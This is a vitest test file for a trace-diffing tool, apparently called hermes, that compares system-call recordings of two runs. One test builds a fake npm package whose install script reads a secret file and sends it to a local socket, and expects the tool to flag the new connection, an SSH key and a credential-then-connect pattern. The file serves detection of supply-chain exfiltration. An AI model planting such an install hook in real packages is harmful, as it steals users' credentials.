import { spawnSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Workplace } from "../learn/workplace.js";

let place: Workplace;
beforeAll(async () => {
  place = new Workplace();
  await place.open();
});
afterAll(() => place.close());

const record = (name: string, command: readonly string[], cwd = place.first) =>
  place.hermes(
    ["run", "-q", "-t", join(place.folder, name), "--", ...command.map((word) => place.fill(word))],
    cwd,
  );
const diff = async (a: string, b: string, ...options: string[]) =>
  place.hermes(["diff", ...options, join(place.folder, a), join(place.folder, b)], place.first);

describe("hermes diff", () => {
  it("finds nothing in two runs of the same program, whatever is random in them, wherever they are", async () => {
    place.file(
      "work.sh",
      "d=$(mktemp -d); echo $$ > $d/x; cat $d/x > /dev/null; rm -r $d; mkdir -m 700 $1; > $1/x; rm -r $1; date > stamp; cat /proc/$$/status > /dev/null\n",
    );
    // Nothing but how it was made tells that such a name is random.
    const names = ["tmp.jhmFwOgsci", "tmp.oTlMiOgEff"].map((name) => `/tmp/hermes-diff-${name}`);
    await record("a.jsonl", ["bash", "work.sh", names[0]!], place.first);
    await record("b.jsonl", ["bash", "work.sh", names[1]!], place.second);
    const { status, output } = await diff("a.jsonl", "b.jsonl");
    expect([status, output]).toEqual([0, "no difference in files, peers, programs or system calls\n"]);
  });

  it("tells new and gone files, peers, programs and calls, and files that are used in other ways", async () => {
    place.file("data", "x");
    await record("a.jsonl", ["bash", "-c", "cat data > /dev/null; rm -f /nonexistent"]);
    await record("b.jsonl", [
      "bash",
      "-c",
      "sort data > sorted; echo y >> data; curl -s http://KNOWN/ > /dev/null",
    ]);
    const { status, output } = await diff("a.jsonl", "b.jsonl", "--json");
    expect(status).toBe(1);
    const { peers, programs, files, syscalls, a, b } = JSON.parse(output);
    expect([a.complete, b.complete]).toEqual([true, true]);
    expect(peers.added).toMatchObject([
      { name: `127.0.0.1:${place.known}`, detail: expect.stringContaining("curl -s") },
    ]);
    expect(programs.added.map((p: { name: string }) => p.name.replace(/.*\//, ""))).toEqual(["curl", "sort"]);
    expect(programs.gone.map((p: { name: string }) => p.name.replace(/.*\//, ""))).toEqual(["cat", "rm"]);
    expect(files.added).toContainEqual(expect.objectContaining({ name: "./sorted", ways: ["written"] }));
    expect(files.changed).toContainEqual(
      expect.objectContaining({ name: "./data", before: ["read"], after: ["read", "written"] }),
    );
    expect(syscalls.added.map((s: { name: string }) => s.name)).toContain("getsockname");
  });

  it("says what is wrong with a trace", async () => {
    const { status, output } = await diff("a.jsonl", "none.jsonl");
    expect([status, output]).toEqual([125, expect.stringContaining("none.jsonl")]);
    expect((await place.hermes(["diff", "one"], place.first)).status).toBe(2);
  });
});

describe("an update of a package whose install script phones home", () => {
  const pack = (version: string, script: string) => {
    const folder = join(place.folder, version, "package");
    mkdirSync(folder, { recursive: true });
    writeFileSync(
      join(folder, "package.json"),
      JSON.stringify({ name: "left", version, scripts: { install: "node install.js" } }),
    );
    writeFileSync(join(folder, "install.js"), place.fill(script));
    spawnSync("tar", ["czf", join(place.first, `left-${version}.tgz`), "-C", join(folder, ".."), "package"]);
  };
  const install = async (version: string) => {
    for (const name of ["node_modules", "package-lock.json"])
      rmSync(join(place.first, name), { recursive: true, force: true });
    writeFileSync(join(place.first, "package.json"), '{ "name": "app", "version": "1.0.0" }\n');
    const command = ["npm", "install", "--offline", "--no-audit", "--no-fund", `./left-${version}.tgz`];
    return record(`${version}.jsonl`, command);
  };

  it("is seen at the new connect, and at the secret that goes with it", async () => {
    pack("1.0.0", "require('fs').writeFileSync('built', 'x');");
    pack(
      "1.0.1",
      `const fs = require("fs"); fs.writeFileSync("built", "x");
      const key = fs.readFileSync("SECRET", "utf8");
      require("net").connect(OTHER_PORT, "127.0.0.1", function () { this.end(key); });`,
    );
    for (const version of ["1.0.0", "1.0.1"]) expect((await install(version)).status).toBe(0);
    const { status, output } = await diff("1.0.0.jsonl", "1.0.1.jsonl");
    expect(status).toBe(1);
    const peers = output.slice(output.indexOf("Peers"), output.indexOf("Secrets"));
    expect(peers).toMatch(new RegExp(`\\+ 127\\.0\\.0\\.1:${place.elsewhere} +.*node install\\.js`));
    expect(peers.match(/^ {2}\+/gm)).toHaveLength(1);
    expect(output).toMatch(/\+ ~\/\.ssh\/id_ed25519/);
    expect(output).toMatch(/\+ credential-then-connect/);
  });
});
